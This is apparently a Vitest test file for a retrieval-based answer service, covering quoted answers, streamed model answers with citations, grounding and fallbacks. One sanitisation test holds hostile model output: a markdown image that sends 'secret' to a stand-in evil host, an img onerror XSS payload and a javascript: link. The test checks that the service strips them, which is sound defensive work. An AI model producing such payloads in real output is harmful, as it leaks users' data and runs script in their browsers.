import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { collect } from '../support/collect.ts'
import { countStatements } from '../support/count-statements.ts'
import { graphql } from '../support/gql/gql.ts'
import { holdTimers } from '../support/hold-timers.ts'
import {
  type Behaviour,
  breakOff,
  type ModelServer,
  refuse,
  reply,
  say,
  sendPiece,
  startModelServer,
} from '../support/model-server.ts'
import { NO_MODELS } from '../support/plain-model.ts'
import { goodWriter } from '../support/scripted-models.ts'
import { createAgent, type Seed, seedWorld } from '../support/seed.ts'
import { setUpTestCanopy } from '../support/start-test-canopy.ts'

const Ask = graphql(`
  query AskForAnswer($input: AgentQueryInput!) {
    agentQuery(input: $input) {
      hits { chunk { id } }
      answer { text confidence grounded model citations { start end chunk { id content document { title } } } }
    }
  }
`)
const AskForText = graphql(`
  query AskForText($input: AgentQueryInput!) { agentQuery(input: $input) { hits { rank } answer { text } } }
`)
const Listen = graphql(`
  subscription ListenToAnswer($input: AgentQueryInput!) {
    agentQuery(input: $input) {
      __typename
      ... on QueryStarted { queryId }
      ... on AnswerDelta { text restart }
      ... on QueryCompleted { answer { text grounded model citations { start end chunk { document { title } } } } }
    }
  }
`)
const Resume = graphql(`
  subscription ResumeAnswer($queryId: ID!) {
    queryEvents(queryId: $queryId) { ... on QueryCompleted { answer { text } } }
  }
`)

const LEAVE = 'How many days of annual leave?'
const KEY = 'sk-model-secret'
/** Sent with an error, so that Canopy retries immediately. */
const NO_PAUSE = { 'retry-after': '0' }
/** Longer than any test. No other timer has this duration. */
const MODEL_TIMEOUT_MS = 300_001

let model: ModelServer
beforeAll(async () => {
  model = await startModelServer()
})
afterAll(() => model.close())
const canopy = setUpTestCanopy(() => ({
  MODEL_BASE_URL: model.url,
  MODEL_NAME: 'scribe-1',
  MODEL_API_KEY: KEY,
  MODEL_TIMEOUT_MS: String(MODEL_TIMEOUT_MS),
}))
let seed: Seed
beforeAll(async () => {
  seed = await seedWorld(canopy.client)
})
beforeEach(async () => {
  // Otherwise the model would be down after some tests.
  await canopy.app.database.prisma.modelCall.deleteMany()
  model.requests.length = 0
  model.left = 0
})
afterEach(() => {
  vi.restoreAllMocks()
})

async function ask(query: string, options: { answer?: boolean; agentId?: string } = { answer: true }) {
  const input = { agentId: seed.agentId, query, ...options }
  return (await canopy.client.run(Ask, { input })).agentQuery
}

async function listen(query: string, { answer = true, onPiece = () => {} } = {}) {
  const pieces: { text: string; restart: boolean }[] = []
  const input = { agentId: seed.agentId, query, answer }
  for await (const { agentQuery: item } of canopy.client.watch(Listen, { input })) {
    if (item.__typename === 'AnswerDelta') {
      pieces.push(item)
      onPiece()
    }
    if (item.__typename !== 'QueryCompleted') continue
    const start = pieces.findLastIndex(piece => piece.restart)
    const final = pieces.slice(Math.max(0, start))
    return { pieces, text: final.map(piece => piece.text).join(''), answer: item.answer }
  }
  throw new Error('The query did not complete.')
}

/** Lets the model write the start of an answer. @returns a function that lets it write the rest. */
function pauseModel(): () => void {
  let finish = () => {}
  model.behave = response => {
    sendPiece(response, 'Annual leave is')
    finish = () => say([' 25 days [1].'])(response)
  }
  return () => finish()
}

describe('a quoted answer', () => {
  beforeAll(() => {
    const { models } = canopy.app
    canopy.app.models = NO_MODELS
    return () => {
      canopy.app.models = models
    }
  })

  it.each([
    [LEAVE, 'Everybody has 25 days of annual leave.', 'Annual leave'],
    ['연차휴가는 며칠인가요?', '연차휴가는 1년에 25일입니다.', '연차휴가 규정'],
    [
      'May I book a flight in premium economy?',
      'Flights over four hours may be booked in premium economy.',
      'Business trips',
    ],
  ])('is the passage that answers %s, under its title', async (query, sentence, title) => {
    const { answer } = await ask(query)
    expect(answer).toMatchObject({ grounded: true, model: null })
    expect(answer?.confidence).toBeGreaterThanOrEqual(0.5)
    const [heading, ...quote] = answer?.text.split('\n') ?? []
    expect(heading).toContain(title)
    expect(quote.join('\n')).toContain(sentence)
    const [cited, ...others] = answer?.citations ?? []
    expect(others).toEqual([])
    expect(cited).toMatchObject({ start: 0, end: [...(answer?.text ?? '')].length })
    expect(cited?.chunk.content).toContain(sentence)
    expect(cited?.chunk.document.title).toBe(title)
    expect((await ask(query)).answer).toEqual(answer)
    expect(await listen(query)).toMatchObject({ text: answer?.text, answer: { text: answer?.text } })
  })

  it.each(['What is the capital of Mongolia?', 'How do I bake bread?', '몽골의 수도는 어디인가요?'])(
    'is refused for %s',
    async query => {
      expect((await ask(query)).answer).toBeNull()
      expect(await listen(query)).toEqual({ pieces: [], text: '', answer: null })
    },
  )

  it('is created only if the query or the agent requests it', async () => {
    expect((await ask(LEAVE, { answer: false })).answer).toBeNull()
    expect(await listen(LEAVE, { answer: false })).toEqual({ pieces: [], text: '', answer: null })
    const { agentId } = await createAgent(canopy.client, { features: { answers: true } })
    expect((await ask(LEAVE, { agentId })).answer?.text).toContain('25 days')
  })

  it('runs no more statements than the search', async () => {
    const count = (answer: boolean) => {
      const input = { agentId: seed.agentId, query: LEAVE, answer }
      return countStatements(canopy, async () => {
        const { agentQuery } = await canopy.client.run(AskForText, { input })
        expect(agentQuery.answer !== null).toBe(answer)
      })
    }
    // Reads the feature flags, which are then cached.
    await count(true)
    expect(await count(true)).toBe(await count(false))
  })

  it('is absent if nothing supports it', async () => {
    expect((await ask('qwertyuiop zxcvbnm')).answer).toBeNull()
    expect(await listen('qwertyuiop zxcvbnm')).toEqual({ pieces: [], text: '', answer: null })
  })
})

describe('an answer from a model', () => {
  it('streams without citation markers, and cites its passages', async () => {
    const parts = ['Annual leave', ' is 25 da', 'ys [', '1', '].', ' Ask your lead', ' two weeks before [1].']
    model.behave = say(parts)
    const { pieces, text, answer } = await listen(LEAVE)
    expect(pieces.length).toBeGreaterThan(2)
    expect(text).toBe('Annual leave is 25 days. Ask your lead two weeks before.')
    expect(answer).toEqual({
      text,
      grounded: true,
      model: 'scribe-1',
      citations: [
        { start: 0, end: 23, chunk: { document: { title: 'Annual leave' } } },
        { start: 25, end: 55, chunk: { document: { title: 'Annual leave' } } },
      ],
    })
    const [request] = model.requests
    expect(request).toMatchObject({
      model: 'scribe-1',
      stream: true,
      headers: { authorization: `Bearer ${KEY}` },
    })
    expect(request?.messages.at(-1)?.content).toMatch(
      /\[1\] Annual leave\n[\s\S]*25 days[\s\S]*Question: How many days/,
    )
  })

  it('streams while the model is still writing', async () => {
    const finish = pauseModel()
    const seen: string[] = []
    const input = { agentId: seed.agentId, query: LEAVE, answer: true }
    for await (const { agentQuery: item } of canopy.client.watch(Listen, { input })) {
      if (item.__typename !== 'AnswerDelta') continue
      seen.push(item.text)
      finish()
    }
    expect(seen).toEqual(['Annual leave', ' is 25', ' days.'])
  })

  it('is plain text even if the model writes markup, and citation offsets match that text', async () => {
    model.behave = say([
      '![x](https://evil.example/p.png?d=secret) <img src=x onerror=alert(1)> [click](javascript:alert(1))\n\n',
      'Annual **leave** is <b>25 days</b> \u202Eand\u0000 fun \ud83d',
      '\ude00 for [all](//evil.example) \ud800【1】.\nWrite to ceo@evil.example [1-2].',
    ])
    const { text, answer } = await listen(LEAVE)
    expect(text).toBe('click\nAnnual leave is 25 days and fun 😀 for all \ufffd.\nWrite to.')
    expect(answer?.text).toBe(text)
    const [first] = answer?.citations ?? []
    expect([...text].slice(first?.start, first?.end).join('')).toBe(
      'Annual leave is 25 days and fun 😀 for all \ufffd.',
    )
  })

  it('is dropped if it exceeds 8,000 characters, including white space', async () => {
    // Only the length limit can end this response.
    model.behave = response => sendPiece(response, `A${' '.repeat(8_000)}`)
    expect((await ask(LEAVE)).answer).toMatchObject({ grounded: true, model: null })
    await expect.poll(() => model.left).toBe(1)
  })

  it('is grounded if the model follows the passages, in English and Korean', async () => {
    model.behave = reply(goodWriter)
    for (const query of [LEAVE, '연차휴가는 며칠인가요?']) {
      const { answer } = await ask(query)
      expect(answer).toMatchObject({ grounded: true, model: 'scribe-1' })
      expect(answer?.text).not.toContain('[')
      expect(answer?.citations.length).toBeGreaterThan(1)
    }
  })

  it('is not grounded if the model invents facts', async () => {
    model.behave = say(['Annual leave is 40 days [1]. It is paid twice [9].'])
    const { answer } = await ask(LEAVE)
    expect(answer).toMatchObject({ grounded: false, citations: [{ start: 0, end: 23 }] })
  })

  it.each<[string, Behaviour, number]>([
    ['refuses', refuse(401, `{"error":"key ${KEY} is wrong"}`), 0],
    ['fails', refuse(500, 'no', NO_PAUSE), 0],
    ['writes nothing', say(['', ' ']), 0],
    ['sends something other than events', refuse(200, '{"choices":[]}'), 0],
    ['breaks off', breakOff(['Annual leave', ' is forty']), 1],
    ['writes more than the limit', say(['Annual leave ', 'is long. '.repeat(1_000)]), 1],
  ])('falls back to passages if the model %s', async (_, behave, restarts) => {
    model.behave = behave
    const fallback = await listen(LEAVE)
    expectExtractive(fallback, restarts)
    expect((await ask(LEAVE)).answer?.text).toBe(fallback.text)
  })

  it('falls back to passages if the model is too slow', async () => {
    const timers = holdTimers(MODEL_TIMEOUT_MS)
    model.behave = response => sendPiece(response, 'Annual leave')
    const fallback = await listen(LEAVE, { onPiece: timers.expire })
    expectExtractive(fallback, 1)
    model.behave = timers.expire
    expect((await ask(LEAVE)).answer?.text).toBe(fallback.text)
    await expect.poll(() => model.open).toBe(0)
  })

  function expectExtractive({ pieces, text, answer }: Awaited<ReturnType<typeof listen>>, restarts: number) {
    expect(answer).toMatchObject({ grounded: true, model: null })
    expect(text).toBe(answer?.text)
    expect(text).toContain('Everybody has 25 days of annual leave.')
    expect(pieces.filter(piece => piece.restart)).toHaveLength(restarts)
  }

  it('is completed without subscribers and can be read later', async () => {
    const finish = pauseModel()
    const input = { agentId: seed.agentId, query: LEAVE, answer: true }
    let queryId = ''
    for await (const { agentQuery: item } of canopy.client.watch(Listen, { input })) {
      if (item.__typename === 'QueryStarted') queryId = item.queryId
      if (item.__typename === 'AnswerDelta') break
    }
    finish()
    await canopy.idle()
    expect(model).toMatchObject({ left: 0, open: 0 })
    const items = await collect(canopy.client.watch(Resume, { queryId }))
    expect(items.at(-1)).toEqual({ queryEvents: { answer: { text: 'Annual leave is 25 days.' } } })
  })
})
